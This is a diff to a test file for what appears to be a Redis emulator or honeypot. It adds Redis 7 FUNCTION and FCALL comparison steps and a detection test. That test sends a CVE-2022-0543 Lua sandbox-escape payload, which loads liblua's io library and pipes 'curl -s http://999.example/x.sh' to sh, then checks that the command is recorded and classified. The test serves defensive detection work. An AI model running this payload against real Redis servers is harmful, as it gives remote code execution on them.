@@ -189,6 +189,43 @@ const STEPS: Cmd[] = [
   ["MULTI"],
   ["EXEC"],
   ["HELLO", "2"],
+  // Functions (7.0+; left out for older builds).
+  [
+    "FUNCTION",
+    "LOAD",
+    "#!lua name=mylib\nredis.register_function('myfunc', function(keys, args) return {keys[1], args[1]} end)",
+  ],
+  ["FCALL", "myfunc", "1", "k", "a"],
+  ["FCALL_RO", "myfunc", "0"],
+  [
+    "FUNCTION",
+    "LOAD",
+    "#!lua name=rolib\nredis.register_function{function_name='ro', callback=function() return redis.call('get', 'x') end, flags={'no-writes'}}",
+  ],
+  ["FCALL_RO", "ro", "0"],
+  ["FUNCTION", "LIST", "WITHCODE", "LIBRARYNAME", "rol*"],
+  [
+    "FUNCTION",
+    "LOAD",
+    "#!lua name=mylib\nredis.register_function('other', function() return 1 end)",
+  ],
+  ["FUNCTION", "LOAD", "#!lua name=bad\nerror('boom')"],
+  ["FUNCTION", "LOAD", "#!lua name=bad\nreturn +"],
+  ["FUNCTION", "LOAD", "#!lua name=bad\nlocal x = 1"],
+  ["FUNCTION", "LOAD", "#!lua name=bad\nredis.register_function('myfunc', function() end)"],
+  ["FUNCTION", "LOAD", "no metadata"],
+  ["FUNCTION", "LOAD", "#!js name=x\n"],
+  ["FUNCTION", "LOAD", "#!lua\n"],
+  ["FCALL", "nosuch", "0"],
+  ["FCALL", "myfunc", "x"],
+  ["FCALL", "myfunc", "-1"],
+  ["FUNCTION", "STATS"],
+  ["FUNCTION", "DELETE", "mylib"],
+  // One library left: the order of several is Redis's hash table's.
+  ["FUNCTION", "LIST"],
+  ["FUNCTION", "DELETE", "mylib"],
+  ["FUNCTION", "FLUSH"],
+  ["FUNCTION", "LIST"],
   // Last: before 6.2.7 these change the server's Lua for every later script.
   ev("string.rep = nil", "0"),
   ev("redis.call = nil", "0"),
@@ -283,7 +320,8 @@ for (const build of BUILDS) {
       const fake = await servePersona(persona(build.persona, { layout: "source" }));
       try {
         const steps = STEPS.filter(
-          (s) => !/^EVAL(SHA)?_RO$/.test(String(s[0])) || build.dir >= "redis-7",
+          (s) =>
+            !/^(EVAL(SHA)?_RO|FUNCTION|FCALL(_RO)?)$/.test(String(s[0])) || build.dir >= "redis-7",
         );
         const want = await runAll(real.port, steps);
         const got = await runAll(fake.port, steps);
@@ -389,6 +427,32 @@ describe("scripting bounds, the CVE-2022-0543 forms and real clients on the ship
     } finally {
       await client.quit().catch(() => {});
       await srv.close();
+    }
+  });
+});
+
+describe("the CVE-2022-0543 command reaches the classifier and the indicators", () => {
+  test("a command built at run time is recorded, classified and searched", async () => {
+    const srv = await servePersona(persona("redis-5.0-open"));
+    try {
+      const conn = await RespConnection.open(srv.port);
+      // The command never appears literally in the script.
+      const body =
+        'local l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io")() ' +
+        'local c = "cur" .. "l -s http://" .. string.rep("9", 3) .. ".example/x.sh | sh" ' +
+        "local f = l.popen(c); local r = f:read('*a'); f:close(); return r";
+      assert.equal(
+        (await conn.send(encodeCommand(["EVAL", body, "0"]))).toString("latin1"),
+        "$0\r\n\r\n",
+      );
+      conn.close();
+      await srv.close();
+      const rows = srv.recorder.rows.map((r) => JSON.stringify(r)).join("\n");
+      assert.match(rows, /curl -s http:\/\/999\.example\/x\.sh \| sh/);
+      assert.match(rows, /shell command via Lua/);
+      assert.match(rows, /999\.example/);
+    } finally {
+      await srv.close().catch(() => {});
     }
   });
 });
